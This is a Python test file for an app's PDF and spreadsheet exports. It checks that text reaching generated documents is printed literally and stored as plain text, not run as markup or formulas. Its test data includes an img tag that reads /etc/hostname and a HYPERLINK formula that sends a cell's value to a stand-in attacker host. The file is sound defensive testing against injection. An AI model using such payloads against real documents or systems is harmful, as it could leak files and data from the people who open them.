"""Every text that reaches a document the app makes is printed literally: PDFs never obey
markup from it (issue 16 item 1) and workbooks never run it as a formula (item 2)."""
import subprocess
from datetime import datetime, timedelta, timezone

import pytest

from app.cards.operations import issue_card
from app.cards.printing import render_cards_pdf
from app.cases.models import CaseState
from app.extensions import db
from app.figures.report import report_pdf

MARKUP = '<img src="/etc/hostname"/>'
ANGLES = "a<b 并且 c>d"
AMPERSAND = "甲&乙"
T0 = datetime(2026, 11, 17, 1, 0, tzinfo=timezone.utc)


def pdf_text(data: bytes, tmp_path) -> str:
    path = tmp_path / "out.pdf"
    path.write_bytes(data)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout
    return "".join(text.split())  # wrapping may break a line anywhere


def shown(text: str) -> str:
    return "".join(text.split())


@pytest.fixture
def hostile(app, world, make_case, make_enterprise, fixed_clock):
    """A department, an enterprise, a leader and an overdue case whose text is markup."""
    fixed_clock.set(T0 + timedelta(days=10))
    world.dept.name = f"{ANGLES}局"
    world.dept.phone = AMPERSAND
    world.handler.display_name = AMPERSAND
    enterprise = make_enterprise(name=MARKUP, responsible_department=world.dept,
                                 package_leader=world.handler)
    make_case(CaseState.dispatched, now=T0, content=f"{MARKUP}{ANGLES}{AMPERSAND}")
    db.session.commit()
    return enterprise


def test_the_monthly_report_pdf_prints_markup_literally(hostile, tmp_path):
    text = pdf_text(report_pdf("2026-11", county=AMPERSAND), tmp_path)
    for literal in (MARKUP, ANGLES, AMPERSAND):
        assert shown(literal) in text, literal


@pytest.mark.parametrize("layout", ["card", "a6"])
def test_every_card_pdf_prints_markup_literally(hostile, app, tmp_path, layout):
    app.config["COUNTY_NAME"] = ANGLES
    cards = [issue_card(hostile), issue_card(title=f"{AMPERSAND}{ANGLES}")]
    db.session.commit()
    text = pdf_text(render_cards_pdf(cards, layout), tmp_path)
    for literal in (MARKUP, ANGLES, AMPERSAND):
        assert shown(literal) in text, literal


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1+1+1", "-2+3-4+5", "@SUM(A1:A9)",
            "＝1+1+1+1"]


def workbook_cells(data: bytes):
    from io import BytesIO
    from openpyxl import load_workbook
    wb = load_workbook(BytesIO(data))
    return [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.fixture
def formulas(app, world, make_case, fixed_clock):
    """Overdue cases and a department whose text looks like formulas."""
    fixed_clock.set(T0 + timedelta(days=10))
    world.dept.name = "=1+2"
    for text in FORMULAS:
        make_case(CaseState.dispatched, now=T0, content=text)
    db.session.commit()


def assert_all_text(cells, expected):
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value: c for c in cells}
    for text in expected:
        assert text in values, text
        assert values[text].data_type == "s" and values[text].quotePrefix, text


def test_the_monthly_report_workbook_stores_formulas_as_text(formulas):
    from app.figures.report import report_xlsx
    cells = workbook_cells(report_xlsx("2026-11", county="="))
    assert_all_text(cells, [text[:40] for text in FORMULAS] + ["=1+2"])


def test_the_ledger_stores_formulas_as_text_on_every_sheet(formulas, world):
    from io import BytesIO
    from app.figures.ledger import export_ledger
    buffer = BytesIO()
    export_ledger(buffer, county="=")
    assert_all_text(workbook_cells(buffer.getvalue()), FORMULAS + ["=1+2"])
